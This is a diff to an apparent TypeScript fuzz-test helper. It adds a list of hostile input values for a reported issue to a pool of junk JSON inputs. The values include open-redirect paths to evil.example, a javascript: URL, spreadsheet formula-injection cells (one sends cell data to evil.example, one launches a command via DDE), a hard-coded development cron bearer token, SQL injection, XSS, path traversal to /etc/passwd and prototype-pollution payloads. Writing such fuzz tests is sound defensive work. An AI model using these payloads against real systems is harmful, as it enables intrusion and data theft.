@@ -8,10 +8,38 @@ type Def = { type: string; [k: string]: unknown };
 type Check = { _zod: { def: { check: string; [k: string]: unknown } } };
 const defOf = (s: unknown): Def => (s as { _zod: { def: Def } })._zod.def;
 
+/**
+ * The seven holes of issue 11 as values: the mailbox page's path, the development cron secret, `next`
+ * paths that leave the site after the browser's URL parsing, multi-line formula cells, forwarded-address
+ * spoofs, and lone UTF-16 surrogates. (Refused-then-referenced ids come from the id pool of the fuzz suite.)
+ */
+export const issue11Values = [
+  "/dev/mailbox",
+  "Bearer rimebook-development-cron",
+  "/\t/localhost:3999/phish",
+  "/\n/evil.example",
+  "/\r/evil.example",
+  "/\\evil.example",
+  "//evil.example",
+  "javascript:alert(1)",
+  '=HYPERLINK("http://evil.example/?x="&A1,\n"Open")',
+  "+1+cmd|' /C calc'!A0\nline two",
+  "-2+3\r\n=1+1",
+  "@SUM(1,1)\n",
+  "\t=1+1",
+  "\r=1+1",
+  "203.0.113.7, 10.0.0.1",
+  "unknown",
+  "\uD800",
+  "Wren \uD83C",
+  "\uDFFF Alder",
+];
+
 /** Hostile or odd JSON values any field may receive instead of what it expects. */
 export const junk: fc.Arbitrary<unknown> = fc.oneof(
   fc.constantFrom(null, "", " ", 0, -1, 1e308, -1e308, 0.5, true, false, [], {}, "null", "undefined", "NaN"),
   fc.constantFrom("'; DROP TABLE bags; --", "<script>alert(1)</script>", "../../etc/passwd", "\u0000", "\uFFFF\uD800", "%00", "${x}", "__proto__"),
+  fc.constantFrom(...issue11Values),
   fc.constant({ __proto__: { admin: true } }),
   fc.constant(JSON.parse('{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}}}')),
   fc.string({ maxLength: 40 }),
